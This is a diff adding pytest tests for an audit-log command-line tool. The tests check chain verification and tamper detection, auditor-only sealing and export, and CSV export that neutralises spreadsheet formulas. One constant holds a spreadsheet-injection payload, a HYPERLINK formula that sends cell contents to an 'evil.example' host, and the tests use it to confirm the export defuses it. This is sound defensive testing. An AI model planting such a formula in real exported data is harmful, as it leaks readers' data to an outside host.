@@ -1,0 +1,93 @@
+"""mash-admin audit: verify the chain, seal it, export a period as safe CSV."""
+
+import csv
+import datetime as dt
+import io
+import os
+import re
+import stat
+
+import pytest
+from sqlalchemy import text
+
+from mash_desktop.services.audit_trail import COLUMNS, neutralise
+from mash_desktop.store.database import Database
+
+from .conftest import PASSWORD, REF
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+def test_verify_then_tamper(mash):
+    run = mash("audit", "verify")
+    assert run.rc == 0 and run.out.startswith("Audit chain intact")
+    db = Database(mash.url)
+    with db.engine.begin() as conn:
+        conn.execute(text("UPDATE audit_events SET actor_name = 'someone' WHERE id = 5"))
+    db.dispose()
+    run = mash("audit", "verify")
+    assert run.rc == 1 and "(event 5)" in run.err and run.out == ""
+
+
+def test_seal_needs_an_auditor(mash):
+    run = mash("audit", "seal", "--as", "csc.lead", stdin=[PASSWORD], at="CSC")
+    assert run.rc == 1 and "auditor" in run.err
+    run = mash("audit", "seal", "--as", "hub.auditor", stdin=[PASSWORD], at="HUB")
+    assert run.rc == 0 and re.match(r"Sealed the audit chain at event \d+", run.out), run.err
+    run = mash("audit", "verify")
+    assert run.rc == 0 and "1 signed checkpoints" in run.out
+
+
+@pytest.mark.parametrize("cell,safe", [("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"),
+                                       ("\tx", "'\tx"), ("\rx", "'\rx"), ("a=b", "a=b"), ("", "")])
+def test_neutralise(cell, safe):
+    assert neutralise(cell) == safe
+
+
+def _rows(csv_text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(csv_text, newline="")))
+
+
+def test_export_neutralises_formulas(mash):
+    for reason in (FORMULA, "-1+1", "@SUM(A1)", "+44 7700 900123", "Plain reason"):
+        run = mash("referral", "show", REF, "--as", "pol.officer", f"--reason={reason}", stdin=[PASSWORD], at="POL")
+        assert run.rc == 0, run.err
+    run = mash("audit", "export", "--as", "pol.lead", stdin=[PASSWORD], at="POL")
+    assert run.rc == 1 and "auditor" in run.err
+    run = mash("audit", "export", "--as", "hub.auditor", stdin=[PASSWORD], at="HUB")
+    assert run.rc == 0, run.err
+    rows = _rows(run.out)
+    assert tuple(rows[0]) == COLUMNS
+    views = [r for r in rows[1:] if r[5] == "case.view"]
+    assert [r[8] for r in views] == ["'" + FORMULA, "'-1+1", "'@SUM(A1)", "'+44 7700 900123", "Plain reason"]
+    first = views[0]
+    assert first[2] == "pol.officer" and first[3] == "POL" and first[6:8] == ["referral", REF]
+    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", first[1])
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+    later = mash("audit", "export", "--as", "hub.auditor", stdin=[PASSWORD], at="HUB")
+    assert any(r[5] == "audit.export" for r in _rows(later.out))
+
+
+def test_export_to_a_file_for_a_period(mash, tmp_path):
+    (tmp_path / "exports").mkdir()
+    out = tmp_path / "exports" / "audit.csv"
+    today = dt.datetime.now(dt.timezone.utc).date()
+    run = mash("audit", "export", "--from", (today - dt.timedelta(days=1)).isoformat(), "--to",
+               (today + dt.timedelta(days=1)).isoformat(), "--out", str(out), "--as", "hub.auditor",
+               stdin=[PASSWORD], at="HUB")
+    assert run.rc == 0 and "Wrote" in run.out, run.err
+    rows = _rows(out.read_text(encoding="utf-8"))
+    assert len(rows) > 10 and tuple(rows[0]) == COLUMNS
+    assert os.listdir(out.parent) == ["audit.csv"]  # no temporary file left behind
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600
+    run = mash("audit", "export", "--from", (today + dt.timedelta(days=2)).isoformat(), "--as", "hub.auditor",
+               stdin=[PASSWORD], at="HUB")
+    assert run.rc == 0 and len(_rows(run.out)) == 1
+    run = mash("audit", "export", "--from", "2026-03-02", "--to", "2026-03-01", "--as", "hub.auditor",
+               stdin=[PASSWORD], at="HUB")
+    assert run.rc == 2 and "ends before it starts" in run.err
+    run = mash("audit", "export", "--from", "yesterday", "--as", "hub.auditor", stdin=[PASSWORD], at="HUB")
+    assert run.rc == 2 and "--from" in run.err
+    run = mash("audit", "export", "--out", str(tmp_path / "no" / "such.csv"), "--as", "hub.auditor",
+               stdin=[PASSWORD], at="HUB")
+    assert run.rc == 2 and "folder does not exist" in run.err
